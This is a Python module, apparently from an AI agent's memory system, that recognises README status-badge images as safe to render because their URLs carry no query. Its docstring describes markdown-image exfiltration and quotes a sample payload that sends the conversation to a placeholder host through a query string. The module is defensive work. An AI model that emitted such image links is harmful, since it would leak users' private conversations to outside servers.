"""README badges: a status image whose address carries nothing but the project's own name.

The action classifier marks every markdown image action-bearing (an image an answer renders is fetched, and a
query can carry what the agent knows out: ``![](https://host/p.png?d={conversation})``), so a team's note
about its README badges waits for a person. :func:`badges_only` recognises the one shape sleep may judge
like any fact (:func:`memctl.sleep.trust.decide`): every markdown image is a *status badge* — ``https``, on a
badge service (:data:`_BADGE_HOSTS`) or a path ending in ``/badge.svg`` (GitHub Actions, Codecov, GitLab) —
with no query at all, and every other link of the text is ``https`` with no query either. Nothing in such an
address can be filled in by the agent, so rendering it sends the badge service only the project's name, which
the address already holds.

Source: the badge addresses of shields.io, GitHub Actions ("Adding a workflow status badge"), Codecov and
GitLab's pipeline badges. Deterministic; never raises on a ``str``. What it does not judge: whether the
project named in the badge is this one.
"""

from __future__ import annotations

import re

__all__ = ["badges_only"]

_BADGE_HOSTS = frozenset("img.shields.io badgen.net badge.fury.io codecov.io github.com gitlab.com "
                         "coveralls.io readthedocs.org app.codacy.com api.codeclimate.com".split())
_IMAGE = re.compile(r"!\[[^\]\n]*\]\(([^)\s]+)\)")
_URL = re.compile(r"[a-z][a-z0-9+.-]*:[^\s)\]>]+", re.IGNORECASE)
_HTTPS = re.compile(r"https://([a-z0-9.-]+)(/[\w./@%+-]*)?$", re.IGNORECASE)


def _badge(url: str) -> bool:
    m = _HTTPS.match(url)
    if not m:
        return False
    host, path = m.group(1).lower(), (m.group(2) or "")
    return host in _BADGE_HOSTS and (host not in ("github.com", "gitlab.com", "codecov.io") or path.endswith("/badge.svg"))


def badges_only(text: str) -> bool:
    """True when ``text`` has at least one markdown image, every image is a status badge and every URL of the
    text is ``https`` with no query, fragment template or scheme other than https (module doc). Never raises;
    False for a non-``str``."""
    if not isinstance(text, str):
        return False
    images = _IMAGE.findall(text)
    urls = _URL.findall(text)
    return bool(images) and all(_badge(u) for u in images) and all(_HTTPS.match(u) for u in urls)
